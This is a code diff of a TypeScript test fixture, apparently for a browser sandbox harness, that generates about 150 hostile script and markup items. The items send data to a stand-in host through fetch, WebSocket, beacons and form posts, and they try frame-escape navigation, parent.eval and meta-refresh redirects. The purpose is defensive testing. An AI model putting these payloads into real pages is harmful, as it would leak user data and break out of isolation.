@@ -19,7 +19,9 @@ export const THIRD_PARTY = "third-party.example";
 export const REPORT = "cenoteHostileRan";
 /** Names the origin of the script that runs: "null" in a sandbox. */
 const RUN = `typeof ${REPORT}==="function"&&${REPORT}(self.origin)`;
-const OUT = `http://${THIRD_PARTY}`;
+const OUT = `https://${THIRD_PARTY}`;
+/** Where frames navigate: Chromium connects ahead of a navigation that the policy blocks, and TLS would pass for a request. */
+const AWAY = `http://${THIRD_PARTY}`;
 
 /** 150 items, each hostile in its own way. */
 export function hostileItems(): readonly HostileItem[] {
@@ -102,7 +104,7 @@ function pages(): readonly Buffer[] {
     RUN,
     `fetch("${OUT}/fetch");${RUN}`,
     `new XMLHttpRequest().open("GET","${OUT}/xhr");${RUN}`,
-    `new WebSocket("ws://${THIRD_PARTY}/socket");${RUN}`,
+    `new WebSocket("wss://${THIRD_PARTY}/socket");${RUN}`,
     `new EventSource("${OUT}/events");${RUN}`,
     `navigator.sendBeacon("${OUT}/beacon","x");${RUN}`,
     `new Image().src="${OUT}/image";${RUN}`,
@@ -110,7 +112,7 @@ function pages(): readonly Buffer[] {
     `top.location="${OUT}/top";${RUN}`,
     `parent.document.title="taken";${RUN}`,
     `parent.eval(${JSON.stringify(RUN)})`,
-    `location="${OUT}/self"`,
+    `location="${AWAY}/self"`,
     `location="javascript:${RUN.replaceAll('"', "'")}"`,
     `window.open("${OUT}/open");${RUN}`,
     `alert(1);prompt(2);confirm(3);print();${RUN}`,
@@ -122,12 +124,12 @@ function pages(): readonly Buffer[] {
     `history.pushState(0,"","/");top.history.back();${RUN}`,
     `const a=document.createElement("a");a.href="${OUT}/a";a.ping="${OUT}/ping";a.target="_top";document.body.append(a);a.click();${RUN}`,
     `const until=Date.now()+1500;while(Date.now()<until);${RUN}`,
-    `const f=document.createElement("iframe");f.src="${OUT}/frame";document.documentElement.append(f);${RUN}`,
+    `const f=document.createElement("iframe");f.src="${AWAY}/frame";document.documentElement.append(f);${RUN}`,
     `fetch("/graphql",{method:"POST",body:"{}"});${RUN}`,
     `new RTCPeerConnection({iceServers:[{urls:"stun:${THIRD_PARTY}:3478"}]}).createDataChannel("x");${RUN}`,
   ];
   const markup = [
-    `<meta http-equiv="refresh" content="0;url=${OUT}/refresh">`,
+    `<meta http-equiv="refresh" content="0;url=${AWAY}/refresh">`,
     `<base href="${OUT}/"><script src="1.js"></script><img src="1.png">`,
     `<link rel="stylesheet" href="${OUT}/1.css"><link rel="prefetch" href="${OUT}/prefetch"><link rel="preload" as="image" href="${OUT}/preload">`,
     `<form action="${OUT}/form" method="post"></form><script>document.forms[0].submit()</script>`,
